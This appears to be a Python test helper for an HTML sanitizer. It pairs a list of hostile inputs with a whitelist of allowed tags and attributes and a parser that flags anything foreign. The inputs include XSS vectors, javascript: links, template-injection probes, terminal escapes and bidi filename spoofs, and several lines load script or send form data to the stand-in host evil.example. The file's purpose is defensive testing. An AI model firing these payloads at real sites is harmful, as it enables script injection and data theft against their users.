"""Hostile texts, and the tags and attributes that our own HTML may have."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg onload=window.pwned=1>",
    "</td><script>window.pwned=1</script>",
    "</table></div><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</summary></details><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x>",
    "<iframe src=javascript:window.pwned=1>",
    "<object data=//evil.example/x.svg>",
    "<embed src=//evil.example/x.svg>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<svg><foreignObject><script>window.pwned=1</script>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<button data-commandlinker-command='x' data-commandlinker-args='{}'>x</button>",
    "<details ontoggle=window.pwned=1 open>",
    "<video><source onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<!--><script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?xml version='1.0'?><script>window.pwned=1</script>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${7*7}#{7*7}",
    "$\\href{javascript:window.pwned=1}{x}$",
    "![x](http://evil.example/x.png)",
    "[x](javascript:window.pwned=1)",
    "\x1b]0;title\x07\x1b[2J\x1b[31mred",
    "\x9b31m\x85\x00\x08\x7f\r",
    "abc\u202egnp.exe\u202c\u2066x\u2069\u200f",
    "\ud800 lone \udfff",
    "line\u2028separator\u2029paragraph",
    "data:text/html,<script>window.pwned=1</script>",
    "x" * 100_000,
    "<b>" * 20_000,
    "\u0301" * 5_000,
]

ALLOWED = {
    "div": {"class", "tabindex"},
    "style": set(),
    "p": {"class"},
    "strong": set(),
    "mark": set(),
    "table": {"class"},
    "thead": set(),
    "tbody": set(),
    "tr": {"class"},
    "th": {"scope", "class"},
    "td": {"class", "colspan"},
    "span": {"class"},
    "details": {"class"},
    "summary": set(),
    "dl": {"class"},
    "dt": set(),
    "dd": set(),
    "ol": {"class"},
    "ul": {"class"},
    "li": set(),
    "figure": set(),
    "figcaption": set(),
    "pre": {"class"},
    "meter": {"class", "min", "max", "value", "title"},
    "progress": {"class", "max", "value", "title"},
    "img": {"class", "src", "alt", "loading"},
    "audio": {"class", "controls", "preload", "src", "title"},
}


EMBEDDED = ("data:image/jpeg;base64,", "data:image/png;base64,", "data:audio/wav;base64,")


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.foreign: list[str] = []
        self.open: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED or not {name for name, _ in attrs} <= ALLOWED[tag]:
            self.foreign.append(f"<{tag} {attrs}>")
        for name, value in attrs:
            if name == "src" and not (value or "").startswith(EMBEDDED):
                self.foreign.append(f"src={value}")
        if tag not in ("img",):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.foreign.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.foreign.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.foreign.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.foreign.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.foreign.append(f"<![{data}")


def foreign_parts(html: str) -> list[str]:
    """Return what in `html` is not ours: tags, attributes, addresses, unbalanced ends."""
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.foreign + [f"unclosed <{tag}>" for tag in audit.open]


def shown_text(html: str) -> str:
    """Return the text that a reader of `html` sees, and the style sheet."""
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return "".join(audit.text)
